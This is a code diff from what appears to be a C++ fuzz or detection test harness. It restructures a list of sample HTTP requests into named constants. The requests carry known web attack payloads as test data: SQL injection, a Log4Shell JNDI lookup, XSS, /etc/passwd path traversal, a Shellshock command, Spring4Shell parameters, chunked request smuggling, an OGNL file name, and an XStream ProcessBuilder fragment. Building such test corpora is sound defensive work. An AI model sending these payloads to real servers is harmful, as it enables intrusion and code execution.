@@ -41,17 +41,22 @@ std::string conversation(const vmoat::Sample& sample) {
 }
 
 /** Of every kind of place and trick one. */
-const std::string requests[] = {
+constexpr const char* in_query_and_head =
     "GET /?id=1%27%20UNION%20SELECT%201,2--%20&b=${${lower:j}ndi:ldap://a}&c=%3Cimg%20onerror=alert(1)%3E "
     "HTTP/1.1\r\n"
-    "Cookie: a=b; c=../../etc/passwd\r\nUser-Agent: () { :;}; id\r\n\r\n",
+    "Cookie: a=b; c=../../etc/passwd\r\nUser-Agent: () { :;}; id\r\n\r\n";
+constexpr const char* in_path_and_chunks =
     "POST /%2e%2e/x?class.module.classLoader.a=1 HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Type: "
-    "application/json\r\n\r\n9\r\n{\"a\":\"\\u0\r\n6\r\n027\"} \r\n0\r\nT: x\r\n\r\n",
+    "application/json\r\n\r\n9\r\n{\"a\":\"\\u0\r\n6\r\n027\"} \r\n0\r\nT: x\r\n\r\n";
+constexpr const char* in_file_name =
     "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 78\r\n\r\n--b\r\n"
-    "Content-Disposition: form-data; name=\"f\"; filename=\"%{(#a=1)}\"\r\n\r\nx\r\n--b--\r\n",
-    "POST / HTTP/1.1\r\nContent-Length: -1\r\nTransfer-Encoding : chunked\r\n\r\n",
+    "Content-Disposition: form-data; name=\"f\"; filename=\"%{(#a=1)}\"\r\n\r\nx\r\n--b--\r\n";
+constexpr const char* in_xml =
     "POST / HTTP/1.1\r\nContent-Type: text/xml\r\nContent-Length: "
-    "40\r\n\r\n<map><entry>java.lang.ProcessBuilder</a>\r\n"};
+    "40\r\n\r\n<map><entry>java.lang.ProcessBuilder</a>\r\n";
+const std::string requests[] = {
+    in_query_and_head, in_path_and_chunks, in_file_name,
+    "POST / HTTP/1.1\r\nContent-Length: -1\r\nTransfer-Encoding : chunked\r\n\r\n", in_xml};
 
 /** Tables, then a question from group 3 to 4 and one from an address with a name, as fuzz/policy_input.h
  * reads them. */
